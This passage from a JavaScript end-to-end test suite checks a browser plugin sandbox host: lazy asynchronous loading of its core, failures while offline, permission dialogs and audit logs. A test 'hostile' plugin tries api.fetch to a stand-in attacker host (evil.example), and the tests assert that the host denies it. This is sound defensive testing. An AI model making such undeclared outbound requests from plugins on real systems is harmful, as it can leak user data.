    assert.equal(r.installed, true);
    assert.equal(r.mounted.ok, false, JSON.stringify(r.mounted));
    assert.equal(r.mounted.error.code, 'MODULE_NOT_LOADED', JSON.stringify(r.mounted));
    assert.match(r.mounted.error.message, /checks/);
    assert.equal(r.frames, 0, 'a frame was mounted');
    assert.deepEqual(r.plugins, ['notes']);
    assert.equal(r.loaded, false);
    assert.ok(seen.length >= 1 && seen.every((x) => x === '404'), JSON.stringify(seen));
    recover();
    assert.equal((await page.evaluate(() => window.e2e.mountAndWait('notes', '/notes/'))).ok, true);
    const notes = await pluginFrame(page, 'notes', { state: 'connected' });
    assert.deepEqual(await notes.evaluate(() => window.notes.run('storage.set', 'k', { n: 2 })), { ok: true, value: null });
    assert.deepEqual(await notes.evaluate(() => window.notes.run('storage.get', 'k')), { ok: true, value: { n: 2 } });
    assert.equal(seen.at(-1), 'server');
    assert.deepEqual(await page.evaluate(() => window.syncRequests), [], 'a synchronous request');
  } finally {
    await host.close();
  }
});

// What hosts and plugins do right after a first visit, on most pages. Each of these used to
// need the core's second part (the profile's journey stopped short of them), so the host page
// fetched 150 KiB with a synchronous request on its main thread at its first `destroy()`, its
// first `emit`, a plugin's first `storage.keys()` or first stored fraction.
test('the core\'s second part: what hosts and plugins do after a first visit (the plugin\'s other storage calls, a fraction and an array stored, its permission questions and a refused request, canFetch; the host\'s emit, a second plugin, a remount, destroy and free) never fetches it', async () => {
  const host = await freshHost({ csp: true });
  try {
    const { page } = host;
    await mountNotes(page);
    const notes = await pluginFrame(page, 'notes', { state: 'connected' });
    const run = (...args) => notes.evaluate((a) => window.notes.run(...a), args);
    const answers = {
      keys: await run('storage.keys'),
      missing: await run('storage.get', 'missing'),
      structured: await run('storage.set', 'list', { items: [1, 'two', { three: 3.25 }], done: false, at: null, ratio: -0.5e-3 }),
      back: await run('storage.get', 'list'),
      removed: await run('storage.remove', 'list'),
      has: await run('permissions.has', 'storage'),
      list: await run('permissions.list'),
      request: await run('permissions.request', 'ui:notify', 'to say when a note is saved'), // the host says no
      canFetch: await run('api.canFetch', '/api/anything'),
      cleared: await run('storage.clear'),
    };
    assert.deepEqual(answers.keys, { ok: true, value: ['note'] });
    assert.deepEqual(answers.back, { ok: true, value: { items: [1, 'two', { three: 3.25 }], done: false, at: null, ratio: -0.5e-3 } });
    assert.deepEqual(answers.request, { ok: true, value: false });
    assert.deepEqual(answers.canFetch, { ok: true, value: false });
    for (const [what, answer] of Object.entries(answers)) assert.equal(answer.ok, true, `${what}: ${JSON.stringify(answer)}`);
    const listened = await notes.evaluate(() => window.notes.listen('refresh'));
    assert.equal(listened.ok, true);
    const host2 = await page.evaluate(async () => {
      const h = window.e2e.host;
      const emitted = h.emit('refresh', { at: 'home' });
      await window.e2e.install({ ...window.e2e.manifests.notes, id: 'notes-two' });
      const second = await window.e2e.mountAndWait('notes-two', '/notes/');
      h.unmount('notes');
      const again = await window.e2e.mountAndWait('notes', '/notes/');
      return { emitted, second: second.ok, again: again.ok };
    });
    assert.deepEqual(host2, { emitted: 1, second: true, again: true });
    const remounted = await pluginFrame(page, 'notes', { state: 'connected' });
    assert.deepEqual(await remounted.evaluate(() => window.notes.run('storage.get', 'note')), { ok: true, value: { text: 'remember the milk', savedBy: 'notes' } });
    const ended = await page.evaluate(async () => {
      const h = window.e2e.host;
      h.destroy();
      h.free();
      return (await import('/pkg/index.js')).__pw_checksLoaded();
    });
    assert.equal(ended, false, 'the second part was loaded');
    await new Promise((resolve) => setTimeout(resolve, 500));
    assert.equal(count(host.requests(), CHECKS_WASM), 0, JSON.stringify(host.requests()));
    // The control: a call that needs it (a manifest's diagnostics) still loads it.
    assert.equal(await page.evaluate(async () => { const pkg = await import('/pkg/index.js'); pkg.validateManifest({ id: 'Bad Id' }); return pkg.__pw_checksLoaded(); }), true);
    assert.equal(count(host.requests(), CHECKS_WASM), 1, JSON.stringify(host.requests()));
  } finally {
    await host.close();
  }
});

// A mount's handshake timeout fires most often when the network is slow or gone, and its
// callback (the TIMEOUT failure, its message) is code of the core's second part. It used to load
// that part with a synchronous request on the main thread (the page froze for as long as the
// request took), and if that failed, the host stopped (MODULE_NOT_LOADED). Now the due timer
// loads the part asynchronously first and runs once it has loaded; if that load fails, the
// mount fails at once with a shorter message, by code of the first part.
// The silent plugin's page loads and never says hello.

/** Mount the silent plugin (timeout 800 ms) while a ticker measures the main thread's longest gap. */
function mountSilent(page) {
  return page.evaluate(async () => {
    const pkg = await import('/pkg/index.js');
    await window.e2e.install(window.e2e.manifests.silent);
    let last = performance.now();
    let gap = 0;
    const ticker = setInterval(() => { const t = performance.now(); gap = Math.max(gap, t - last); last = t; }, 20);
    const t0 = performance.now();
    const mounted = await window.e2e.mountAndWait('silent', '/silent/', { timeout: 800 });
    clearInterval(ticker);
    return { mounted, ms: performance.now() - t0, gap, loaded: pkg.__pw_checksLoaded(), status: window.e2e.host.status('silent') };
  });
}

/** The host was not stopped: it mounts the notes plugin, which talks to it. */
async function stillHosts(page) {
  await mountNotes(page);
  const notes = await pluginFrame(page, 'notes', { state: 'connected' });
  assert.deepEqual(await notes.evaluate(() => window.notes.run('storage.get', 'note')), { ok: true, value: { text: 'remember the milk', savedBy: 'notes' } });
}

// Real manifests have fields a first visit's plugin does not (network, compatibility, a
// Grafana plugin.json's own fields): the core parses them in its second part. An install is a
// Promise: it must not fetch that part with a synchronous request on the page's main thread.
test('calls that answer a Promise load the core\'s second part asynchronously first when they need it (an install with the fields real manifests have, an update, a shadow mount), never synchronously; a plain install made meanwhile runs in order; a failed load rejects only the call that needed it, MODULE_NOT_LOADED, the host unchanged, and the same call works once the part loads', async () => {
  const host = await freshHost();
  try {
    const { page } = host;
    const seen = [];
    await scriptAnswers(page, CHECKS_WASM, ['404'], seen);
    await watchSyncRequests(page);
    const r = await page.evaluate(async () => {
      const pkg = await import('/pkg/index.js');
      const h = window.e2e.host;
      const sync = window.syncRequests;
      const settle = (p) => p.then((value) => ({ ok: true, value }), (e) => ({ ok: false, code: e.code, message: e.message }));
      const net = { id: 'lazy-net', name: 'Net', version: '1.0.0', compatibility: '^1.0.0', permissions: ['api:read'], network: ['https://api.example/v1/'], type: 'app', info: { author: 'x' } };
      const order = [];
      // The first needs the second part (its load is a 404); the second does not, made meanwhile.
      const first = settle(h.install(net)).then((x) => { order.push('net'); return x; });
      const plain = settle(h.install({ id: 'lazy-plain', name: 'Plain', version: '1.0.0', permissions: ['storage'] })).then((x) => { order.push('plain'); return x; });
      const failed = await first;
      const plainResult = await plain;
      const afterFailure = { loaded: pkg.__pw_checksLoaded(), plugins: [...h.plugins()].sort() };
      // The same install again: the part loads now.
      const again = await settle(h.install(net));
      const update = await settle(h.update('lazy-net', { ...net, version: '1.1.0' }));
      return { failed, plainResult, order, afterFailure, again, update, loaded: pkg.__pw_checksLoaded(), sync };
    });
    assert.equal(r.failed.ok, false, JSON.stringify(r.failed));
    assert.equal(r.failed.code, 'MODULE_NOT_LOADED', JSON.stringify(r.failed));
    assert.match(r.failed.message, /checks/);
    assert.equal(r.plainResult.ok, true, JSON.stringify(r.plainResult));
    assert.deepEqual(r.order, ['net', 'plain']);
    assert.deepEqual(r.afterFailure, { loaded: false, plugins: ['lazy-plain'] });
    assert.equal(r.again.ok && r.again.value.id, 'lazy-net', JSON.stringify(r.again));
    assert.equal(r.update.ok && r.update.value.to, '1.1.0', JSON.stringify(r.update));
    assert.equal(r.loaded, true);
    assert.deepEqual(r.sync, [], 'a synchronous request');
    assert.deepEqual(seen, ['404', 'server']);
    assert.equal(count(host.requests(), CHECKS_WASM), 1, JSON.stringify(host.requests())); // the 404 never reached the server
  } finally {
    await host.close();
  }
  // A shadow mount, first thing on a page: the same.
  const other = await freshHost();
  try {
    await watchSyncRequests(other.page);
    const r = await other.page.evaluate(async () => {
      const pkg = await import('/pkg/index.js');
      const sync = window.syncRequests;
      // A manifest of a first visit's shape (roles, includes): installed without the part.
      await window.e2e.install({
        id: 'panel', name: 'Panel', version: '1.0.0', permissions: [], optionalPermissions: ['ui:notify'],
        roles: [{ role: { name: 'Panel reader', permissions: [{ action: 'panel.pages:read' }] }, grants: ['Viewer'] }],
        includes: [{ type: 'page', name: 'Home', path: '/a/%PLUGIN_ID%/home', action: 'panel.pages:read', addToNav: true }],
      });
      const before = pkg.__pw_checksLoaded();
      window.e2e.mountWith('panel', { mode: 'shadow', html: '<p>hi</p>' });
      const mounted = await window.e2e.settled('panel');
      return { before, mounted, loaded: pkg.__pw_checksLoaded(), sync };
    });
    assert.equal(r.before, false, 'a first visit\'s manifest loaded the second part');
    assert.deepEqual(r.mounted, { ok: true, value: { pluginId: 'panel', mode: 'shadow' } }, JSON.stringify(r.mounted));
    assert.equal(r.loaded, true);
    assert.deepEqual(r.sync, [], 'a synchronous request');
  } finally {
    await other.close();
  }
});

test('an install of a first visit\'s fields that the host may refuse (a bad value, an id installed, any install on a host with allowPlugins) loads the core\'s second part asynchronously first, never synchronously; a failed load rejects it MODULE_NOT_LOADED and the host goes on unchanged; the check, cut off 1 000 times in a row (without its stack reset, the 401st overflowed), still answers; a valid install never fetches the part', async () => {
  const FAILS = 20;
  const host = await freshHost();
  try {
    const { page } = host;
    const seen = [];
    await scriptAnswers(page, CHECKS_WASM, Array(FAILS).fill('404'), seen);
    await watchSyncRequests(page);
    const r = await page.evaluate(async (fails) => {
      const pkg = await import('/pkg/index.js');
      const h = window.e2e.host;
      const sync = window.syncRequests;
      const settle = (p) => p.then((value) => ({ ok: true, value }), (e) => ({ ok: false, code: e.code, message: e.message }));
      const valid = await settle(h.install({ id: 'fc-one', name: 'One', version: '1.0.0', permissions: ['storage'] }));
      const afterValid = pkg.__pw_checksLoaded();
      // A bad version, while the part cannot load: each is cut off where it needs the part.
      const bad = { id: 'fc-bad', name: 'Bad', version: '1', permissions: ['storage'] };
      const failed = [];
      for (let i = 0; i < fails; i++) failed.push(await settle(h.install(i % 2 ? JSON.stringify(bad) : bad)));
      const codes = [...new Set(failed.map((f) => f.code))];
      // The check itself (as the entry runs it), cut off again and again: each time the stack
      // pointer is put back (each cut leaves ~2.6 KiB of stack behind otherwise).
      const text = JSON.stringify(bad);
      const cuts = new Set();
      for (let i = 0; i < 1000; i++) {
        try {
          cuts.add(pkg.__pw_withoutLoading(() => pkg.PluginHost.__pw_manifestParses(text), 'cut off'));
        } catch (e) {
          cuts.add(`threw ${e.message}`);
          break;
        }
      }
      const parses = pkg.__pw_withoutLoading(() => pkg.PluginHost.__pw_manifestParses(JSON.stringify({ id: 'fc-x', name: 'X' })), 'cut off');
      // The host goes on: a valid install, still without the part; its state as before.
      const second = await settle(h.install({ id: 'fc-two', name: 'Two', version: '1.0.0' }));
      const between = { loaded: pkg.__pw_checksLoaded(), plugins: [...h.plugins()].sort() };
      // The server answers now: the same install is refused for what it is.
      const refused = await settle(h.install(bad));
      return { valid, afterValid, codes, first: failed[0], cuts: [...cuts], parses, second, between, refused, loaded: pkg.__pw_checksLoaded(), sync, plugins: [...h.plugins()].sort() };
    }, FAILS);
    assert.deepEqual(r.valid, { ok: true, value: { id: 'fc-one', status: { state: 'installed' }, warnings: [] } }, JSON.stringify(r.valid));
    assert.equal(r.afterValid, false, 'a valid first visit\'s install fetched the second part');
    assert.deepEqual(r.codes, ['MODULE_NOT_LOADED'], JSON.stringify(r.first));
    assert.match(r.first.message, /checks/);
    assert.deepEqual(r.cuts, ['cut off']);
    assert.equal(r.parses, true);
    assert.equal(r.second.ok, true, JSON.stringify(r.second));
    assert.deepEqual(r.between, { loaded: false, plugins: ['fc-one', 'fc-two'] });
    assert.equal(r.refused.ok, false);
    assert.equal(r.refused.code, 'INVALID_MANIFEST', JSON.stringify(r.refused));
    assert.match(r.refused.message, /version/);
    assert.equal(r.loaded, true);
    assert.deepEqual(r.plugins, ['fc-one', 'fc-two']);
    assert.deepEqual(r.sync, [], 'a synchronous request');
    assert.equal(seen.length, FAILS + 1, 'one asynchronous load per refused install, then the server');
    assert.equal(seen.at(-1), 'server');
    // The refusal is audited as before.
    const denied = await page.evaluate(() => window.e2e.state.audits.filter((e) => e.kind === 'install' && e.decision === 'deny').map((e) => e.code));
    assert.deepEqual(denied, ['INVALID_MANIFEST'], JSON.stringify(denied));
  } finally {
    await host.close();
  }
  // An id installed already: refused, the part loaded first. On a host with allowPlugins, every
  // install loads it first: one outside the list is refused so.
  for (const [label, setup, manifest, code, loadsFirst] of [
    ['installed', {}, { id: 'fc-one', name: 'Again', version: '2.0.0' }, 'ALREADY_EXISTS', false],
    ['allowPlugins', { allowPlugins: ['fc-*'] }, { id: 'other-app', name: 'Other' }, 'PERMISSION_DENIED', true],
  ]) {
    const other = await freshHost();
    try {
      await watchSyncRequests(other.page);
      const r = await other.page.evaluate(async ({ setup, manifest }) => {
        const pkg = await import('/pkg/index.js');
        const sync = window.syncRequests;
        const settle = (p) => p.then((value) => ({ ok: true, value }), (e) => ({ ok: false, code: e.code, message: e.message }));
        window.e2e.create(setup);
        const h = window.e2e.host;
        const atCreate = pkg.__pw_checksLoaded();
        const first = await settle(h.install({ id: 'fc-one', name: 'One', version: '1.0.0' }));
        const before = pkg.__pw_checksLoaded();
        const refused = await settle(h.install(manifest));
        return { atCreate, first, before, refused, loaded: pkg.__pw_checksLoaded(), sync, plugins: h.plugins() };
      }, { setup, manifest });
      assert.equal(r.first.ok, true, `${label}: ${JSON.stringify(r.first)}`);
      assert.deepEqual([r.atCreate, r.before], [false, loadsFirst], label);
      assert.equal(r.refused.code, code, `${label}: ${JSON.stringify(r.refused)}`);
      assert.equal(r.loaded, true, label);
      assert.deepEqual(r.sync, [], `${label}: a synchronous request`);
      assert.deepEqual(r.plugins, ['fc-one'], label);
      assert.equal(count(other.requests(), CHECKS_WASM), 1, label);
    } finally {
      await other.close();
    }
  }
});

test('the IndexedDB store (pkg/idb.js) is a module of its own: a host on another store never fetches it; an IndexedDB host imports it before its mounts, once; while that import fails, its mounts reject MODULE_NOT_LOADED naming the file, the host goes on, and a later mount imports it and works', async () => {
  const host = await freshHost();
  try {
    const { page } = host;
    await mountNotes(page); // storage: 'memory'
    const notes = await pluginFrame(page, 'notes', { state: 'connected' });
    assert.deepEqual(await notes.evaluate(() => window.notes.run('storage.get', 'note')), { ok: true, value: { text: 'remember the milk', savedBy: 'notes' } });
    assert.equal(count(host.requests(), IDB_JS), 0, 'a memory host fetched the IndexedDB store');
    // An IndexedDB host while the store is a 404 (its import when created, and at the mount).
    const seen = [];
    const recover = await failUntil(page, IDB_JS, seen);
    const failed = await page.evaluate(async () => {
      window.e2e.create({ storage: 'indexeddb' });
      await window.e2e.install(window.e2e.manifests.notes);
      const mounted = await window.e2e.mountAndWait('notes', '/notes/');
      return { mounted, frames: window.e2e.iframes('notes'), plugins: window.e2e.host.plugins() };
    });
    assert.equal(failed.mounted.ok, false, JSON.stringify(failed));
    assert.equal(failed.mounted.error.code, 'MODULE_NOT_LOADED', JSON.stringify(failed));
    assert.match(failed.mounted.error.message, /cannot load \.\/idb\.js, the IndexedDB store/);
    assert.deepEqual([failed.frames, failed.plugins], [0, ['notes']]);
    assert.ok(seen.length >= 1 && seen.every((x) => x === '404'), JSON.stringify(seen));
    recover();
    assert.equal((await page.evaluate(() => window.e2e.mountAndWait('notes', '/notes/'))).ok, true);
    assert.equal(seen.at(-1), 'server');
    const fetched = count(host.requests(), IDB_JS);
    const again = await pluginFrame(page, 'notes', { state: 'connected' });
    assert.deepEqual(await again.evaluate(() => window.notes.run('storage.set', 'k', { n: 1 })), { ok: true, value: null });
    assert.deepEqual(await again.evaluate(() => window.notes.run('storage.get', 'k')), { ok: true, value: { n: 1 } });
    assert.equal(fetched, 1, JSON.stringify(host.requests()));
    assert.equal(count(host.requests(), IDB_JS), 1, 'the plugin\'s storage calls fetched the store again');
  } finally {
    await host.close();
  }
});

/**
 * A fresh host in `page` whose hostile plugin may reach the test's API server (on a loopback
 * http: origin), mounted: answers its frame, connected.
 */
async function mountHostileWithApi(page) {
  const mounted = await page.evaluate(async (apiOrigin) => {
    window.e2e.create({ storage: 'memory', dangerous: { allowLoopbackHttp: true } });
    await window.e2e.install({ ...window.e2e.manifests.hostile, network: [`${apiOrigin}/api/`] });
    return window.e2e.mountAndWait('hostile', '/hostile/');
  }, env.servers.apiOrigin);
  assert.equal(mounted.ok, true, JSON.stringify(mounted));
  return pluginFrame(page, 'hostile', { state: 'connected' });
}

test('the API client\'s request (pkg/fetch.js) is a module of its own: a first visit never fetches it, nor the signature check (pkg/crypto.js); the first request imports it; while that import fails, the request fails NETWORK_ERROR naming the file and the host goes on; the next request imports it and is sent', { timeout: 60_000 }, async () => {
  const host = await freshHost();
  try {
    const { page, errors } = host;
    await mountNotes(page);
    const notes = await pluginFrame(page, 'notes', { state: 'connected' });
    assert.deepEqual(await notes.evaluate(() => window.notes.run('storage.get', 'note')), { ok: true, value: { text: 'remember the milk', savedBy: 'notes' } });
    assert.deepEqual([count(host.requests(), FETCH_JS), count(host.requests(), CRYPTO_JS)], [0, 0], JSON.stringify(host.requests()));
    const seen = [];
    const recover = await failUntil(page, FETCH_JS, seen);
    const api = env.servers.apiOrigin;
    const hostile = await mountHostileWithApi(page);
    const call = ['api.fetch', { url: `${api}/api/quotes` }];
    const failed = await attack(hostile, 'send', call);
    assert.equal(codeOf(failed), 'NETWORK_ERROR', JSON.stringify(failed));
    assert.match(failed.reply.error.message, /fetch\.js could not be loaded/);
    assert.ok(seen.length >= 1 && seen.every((x) => x === '404'), JSON.stringify(seen));
    assert.equal(codeOf(await attack(hostile, 'send', ['permissions.list', {}])), 'ok');
    recover();
    const sent = await attack(hostile, 'send', call);
    assert.equal(codeOf(sent), 'ok', JSON.stringify(sent));
    assert.equal(sent.reply.value.status, 200);
    assert.equal(seen.at(-1), 'server');
    assert.equal(codeOf(await attack(hostile, 'send', call)), 'ok');
    assert.equal(seen.filter((x) => x === 'server').length, 1, `imported again: ${JSON.stringify(seen)}`);
    assert.equal(count(host.requests(), CRYPTO_JS), 0);
    assert.deepEqual(errors, []);
  } finally {
    await host.close();
  }
});

test('a mount\'s handshake timeout on a slow network: the core\'s second part is fetched asynchronously (the main thread never freezes), then the mount fails TIMEOUT', { timeout: 30_000 }, async () => {
  const host = await freshHost({ csp: true });
  try {
    const { page } = host;
    const kinds = [];
    page.on('request', (r) => { if (r.url().endsWith(CHECKS_WASM)) kinds.push(r.resourceType()); });
    // The part takes 1.5 s to arrive. (A synchronous request would hold the main thread so long.)
    await page.route(`**${CHECKS_WASM}`, async (route) => { await new Promise((resolve) => setTimeout(resolve, 1500)); await route.continue(); });
    const r = await mountSilent(page);
    assert.equal(r.mounted.ok, false);
    assert.equal(r.mounted.error.code, 'TIMEOUT', JSON.stringify(r.mounted));
    assert.equal(r.loaded, true);
    assert.equal(r.status.state, 'failed', JSON.stringify(r.status));
    assert.deepEqual(kinds, ['fetch']);
    assert.ok(r.ms >= 800 + 1400, `the mount failed after ${r.ms} ms: before the part arrived`);
    assert.ok(r.gap < 500, `the main thread stopped for ${r.gap} ms`);
    await stillHosts(page);
  } finally {
    await host.close();
  }
});

/**
 * Every load of the core's second part fails (a 404) until `networkBack()` is called: each
 * answer is logged in `seen` ('404' or 'server'), each request's kind in `kinds` ('fetch'; 'xhr'
 * for a synchronous one), and the page logs its synchronous requests (watchSyncRequests).
 */
async function partOffline(page) {
  const seen = [];
  const kinds = [];
  page.on('request', (r) => { if (r.url().endsWith(CHECKS_WASM)) kinds.push(r.resourceType()); });
  const networkBack = await failUntil(page, CHECKS_WASM, seen);
  await watchSyncRequests(page);
  return { seen, kinds, networkBack };
}

/**
 * Mount the notes plugin (granted `permissions`) on a host of its own created without
 * `onNotify` and `onPermissionRequest` (the package's toast and dialog), on a first visit; its
 * frame, connected.
 */
async function notesWithoutCallbacks(page, permissions) {
  await page.evaluate(async (granted) => {
    const { PluginHost } = await import('/pkg/index.js');
    const h = new PluginHost({ hostVersion: '1.0.0', storage: 'memory' });
    window.plainHost = h;
    await h.install({ id: 'notes', name: 'Notes', version: '1.0.0', permissions: granted, optionalPermissions: ['ui:notify', 'api:read'].filter((p) => !granted.includes(p)) });
    const slot = document.createElement('div');
    slot.id = 'slot-notes';
    document.body.append(slot);
    await h.mount('notes', slot, { src: `${window.e2e.pluginOrigin}/notes/` });
  }, permissions);
  return pluginFrame(page, 'notes', { state: 'connected' });
}

// A host without `onNotify` shows a plugin's notification as a toast and removes it 5 s later.
// The removal used to be a timer of the core's, which loads the core's second part first: a
// first visit fetched 165 KiB to remove a toast, and with the network gone the toast stayed.
test('a plugin\'s notification on a first visit (a host without onNotify): the toast is removed after 5 s by JS alone, the core\'s second part never fetched, even while it cannot load', { timeout: 40_000 }, async () => {
  const host = await freshHost({ csp: true });
  try {
    const { page } = host;
    const { seen } = await partOffline(page); // the network gone for that part, should anything ask
    const notes = await notesWithoutCallbacks(page, ['storage', 'events', 'ui:notify']);
    assert.equal((await notes.evaluate(() => window.notes.run('ui.notify', 'saved', 'info'))).ok, true);
    const toasts = () => page.evaluate(() => [...document.querySelectorAll('[data-plugin-warden-toasts] > *')].map((t) => t.textContent));
    assert.deepEqual(await toasts(), ['notes: saved']);
    const shown = Date.now();
    while ((await toasts()).length > 0 && Date.now() - shown < 15_000) await new Promise((resolve) => setTimeout(resolve, 100));
    const ms = Date.now() - shown;
    assert.deepEqual(await toasts(), [], `the toast is still there after ${ms} ms`);
    assert.ok(ms >= 4_500, `the toast went after ${ms} ms`);
    assert.deepEqual(seen, [], 'the core\'s second part was asked for');
    assert.equal(count(host.requests(), CHECKS_WASM), 0);
    assert.equal(await page.evaluate(async () => (await import('/pkg/index.js')).__pw_checksLoaded()), false);
    assert.deepEqual(await page.evaluate(() => window.syncRequests), [], 'a synchronous request');
    // The plugin goes on.
    assert.equal((await notes.evaluate(() => window.notes.run('storage.get', 'missing'))).ok, true);
    assert.deepEqual(host.errors, []);
  } finally {
    await host.close();
  }
});

// A host without `onPermissionRequest` asks the user with the package's dialog, code of the
// core's second part. A plugin's request on a first visit used to build it there and then: a
// synchronous load of the part (the main thread frozen while it came), and with the network gone
// an uncaught error and a call never answered.
test('a plugin asks for a permission on a first visit (a host without onPermissionRequest): while the core\'s second part cannot load, the call fails MODULE_NOT_LOADED at once (no dialog, never a synchronous request, not remembered as a no); once it can, the package\'s dialog opens after loading it asynchronously and "Allow" grants', { timeout: 40_000 }, async () => {
  const host = await freshHost({ csp: true });
  try {
    const { page } = host;
    const { seen, kinds, networkBack } = await partOffline(page);
    const notes = await notesWithoutCallbacks(page, ['storage', 'events']);
    const ask = () => notes.evaluate(() => window.notes.run('permissions.request', 'ui:notify', 'to say when a note is saved'));
    const t0 = Date.now();
    const unasked = await ask();
    assert.ok(Date.now() - t0 < 3_000, `answered after ${Date.now() - t0} ms`);
    assert.equal(unasked.ok, false, JSON.stringify(unasked));
    assert.equal(unasked.error.code, 'MODULE_NOT_LOADED');
    assert.equal(unasked.error.message, "the user could not be asked: the rest of the core module, with the permission dialog, could not be loaded");
    assert.equal(await page.evaluate(() => document.querySelectorAll('dialog').length), 0);
    assert.deepEqual(seen, ['404']);
    assert.deepEqual(kinds, ['fetch']);
    // The network is back: the same request opens the dialog once the part has loaded.
    networkBack();
    const asked = ask();
    // (Nothing was remembered: no one said no.)
    const dialog = page.getByRole('dialog');
    await dialog.waitFor({ timeout: 10_000 });
    assert.equal(await dialog.getByRole('heading').textContent(), 'notes asks for \u201cui:notify\u201d');
    await dialog.getByRole('button', { name: 'Allow' }).click();
    assert.deepEqual(await asked, { ok: true, value: true });
    assert.deepEqual(seen, ['404', 'server']);
    assert.deepEqual(kinds, ['fetch', 'fetch']);
    assert.deepEqual(await page.evaluate(() => window.syncRequests), [], 'a synchronous request');
    assert.deepEqual(await page.evaluate(() => window.plainHost.inspect('notes').granted), ['events', 'permissions', 'storage', 'ui:notify']);
    assert.equal((await notes.evaluate(() => window.notes.run('ui.notify', 'saved', 'info'))).ok, true);
    assert.deepEqual(host.errors, []);
  } finally {
    await host.close();
  }
});

// While the network is gone, the part that explains a timeout cannot load: the mount fails on
// time all the same, by code of the first part (src/web/later.rs `urgent`; recorded by
// www/bench/coverage.js), instead of staying pending until the network is back.
test('a mount\'s handshake timeout while the core\'s second part cannot load (the network gone): the mount fails TIMEOUT on time after one asynchronous try, never a synchronous request, saying that the explanation could not be loaded, its frame removed; the host is not stopped, and once the network is back a timeout explains itself', { timeout: 30_000 }, async () => {
  const host = await freshHost({ csp: true });
  try {
    const { page } = host;
    const { seen, kinds, networkBack } = await partOffline(page);
    const r = await mountSilent(page);
    assert.equal(r.mounted.ok, false);
    assert.equal(r.mounted.error.code, 'TIMEOUT', JSON.stringify(r.mounted));
    assert.equal(r.mounted.error.message, 'plugin "silent" did not complete the handshake within 800 ms (the rest of the core module, which would say why, could not be loaded)');
    assert.deepEqual([r.status.state, r.status.code], ['failed', 'TIMEOUT'], JSON.stringify(r.status));
    assert.equal(r.loaded, false);
    // On time: the load is tried once, and the next try (0.5 s later) is not waited for (one
    // request when it failed; the bound on the time only catches a hang).
    assert.deepEqual(seen, ['404']);
    assert.ok(r.ms >= 800 - 50 && r.ms < 800 + 4000, `the mount failed after ${r.ms} ms`);
    assert.deepEqual(kinds, ['fetch']);
    assert.equal(await page.evaluate(() => window.e2e.iframes('silent')), 0, 'the frame of the failed mount is still there');
    await stillHosts(page);
    await new Promise((resolve) => setTimeout(resolve, 1200)); // no timer of the failed mount tries again
    assert.deepEqual(seen, ['404']);
    assert.deepEqual(await page.evaluate(() => window.syncRequests), [], 'a synchronous request');
    // The network is back: the next timeout loads the part and says why.
    networkBack();
    const again = await mountSilent(page);
    assert.equal(again.mounted.error?.code, 'TIMEOUT', JSON.stringify(again.mounted));
    assert.match(again.mounted.error.message, /^plugin "silent" did not complete the handshake within 800 ms: plugin-warden\/client loaded in its frame but no `connect\(\)` hello arrived/);
    assert.equal(again.loaded, true);
    assert.deepEqual(seen, ['404', 'server']);
  } finally {
    await host.close();
  }
});

test('a plugin\'s message that the core refuses with code of its second part (a too-large one: not on a first visit\'s path) loads that part asynchronously, never synchronously: the message and the calls sent behind it wait for it, then are answered in order, the refusal with its own code', async () => {
  const host = await freshHost({ csp: true });
  try {
    const { page } = host;
    await mountNotes(page);
    await watchSyncRequests(page);
    const notes = await pluginFrame(page, 'notes', { state: 'connected' });
    const loaded = () => page.evaluate(async () => (await import('/pkg/index.js')).__pw_checksLoaded());
    assert.equal(await loaded(), false);
    const r = await notes.evaluate(async () => {
      const order = [];
      const tagged = (name, p) => p.then((v) => { order.push(name); return v; });
      const [big, get, set] = await Promise.all([
        tagged('big', window.notes.run('storage.set', 'big', 'x'.repeat(70_000))),
        tagged('get', window.notes.run('storage.get', 'note')),
        tagged('set', window.notes.run('storage.set', 'after', 1)),
      ]);
      return { big, get, set, order };
    });
    assert.equal(r.big.ok, false, JSON.stringify(r.big).slice(0, 300));
    assert.equal(r.big.error.code, 'MESSAGE_REJECTED', JSON.stringify(r.big).slice(0, 300));
    assert.match(r.big.error.message, /at most 65536 bytes/);
    assert.deepEqual(r.get, { ok: true, value: { text: 'remember the milk', savedBy: 'notes' } });
    assert.deepEqual(r.set, { ok: true, value: null });
    assert.deepEqual(r.order, ['big', 'get', 'set'], 'answered out of order');
    assert.equal(await loaded(), true, 'the refusal did not need the second part: pick another path');
    assert.equal(count(host.requests(), CHECKS_WASM), 1);
    assert.deepEqual(await page.evaluate(() => window.syncRequests), [], 'a synchronous request');
    // The refusal is audited as ever.
    const refusals = await page.evaluate(() => window.e2e.host.auditLog().filter((e) => e.kind === 'refusal' && e.plugin === 'notes').map((e) => e.code));
    assert.deepEqual(refusals, ['MESSAGE_REJECTED']);
    const { fromConsole, fromDocument } = await host.hostViolations();
    assert.deepEqual([fromConsole, fromDocument], [[], []]);
  } finally {
    await host.close();
  }
});

/**
 * The hostile plugin (www/plugins/hostile/) installed as `id` with a first visit's manifest
 * ('hostile': `events` and `api:read`, without its `network`; 'hostile-spy': `storage`) and
 * connected.
 */
async function mountHostile(page, id = 'hostile') {
  const mounted = await page.evaluate(async (pluginId) => {
    const { network, ...manifest } = window.e2e.manifests[pluginId];
    await window.e2e.install(manifest);
    return window.e2e.mountAndWait(pluginId, '/hostile/');
  }, id);
  assert.equal(mounted.ok, true, JSON.stringify(mounted));
  return pluginFrame(page, id, { state: 'connected' });
}
/**
 * A fresh host page (freshHost) with the hostile plugin mounted as `id` and connected
 * (`hostile`, its frame), the page's synchronous requests watched.
 */
async function hostileHost(id = 'hostile') {
  const host = await freshHost();
  try {
    host.hostile = await mountHostile(host.page, id);
    await watchSyncRequests(host.page);
    return host;
  } catch (e) {
    await host.close();
    throw e;
  }
}
const attack = (frame, name, arg) => frame.evaluate(([n, a]) => window.hostile.attack(n, a), [name, arg]);
const codeOf = (r) => (r?.reply ? (r.reply.ok ? 'ok' : r.reply.error?.code) : JSON.stringify(r));
/**
 * Once the core's second part can load again: the hostile plugin's request for a URL its
 * manifest does not declare, every 250 ms (`tries` at most), until the host refuses it
 * NETWORK_DENIED (the part loaded) — asserted; each reply before is MODULE_NOT_LOADED.
 */
async function deniedOnceLoaded(hostile, tries) {
  let back = null;
  for (let i = 0; i < tries && codeOf(back) !== 'NETWORK_DENIED'; i++) {
    back = await attack(hostile, 'send', ['api.fetch', { url: 'https://evil.example/' }]);
    assert.ok(['MODULE_NOT_LOADED', 'NETWORK_DENIED'].includes(codeOf(back)), JSON.stringify(back));
    if (codeOf(back) !== 'NETWORK_DENIED') await new Promise((resolve) => setTimeout(resolve, 250));
  }
  assert.equal(codeOf(back), 'NETWORK_DENIED', JSON.stringify(back));
}

/**
 * `act(host)` on a fresh host page with the hostile plugin mounted as `id` (hostileHost), whose
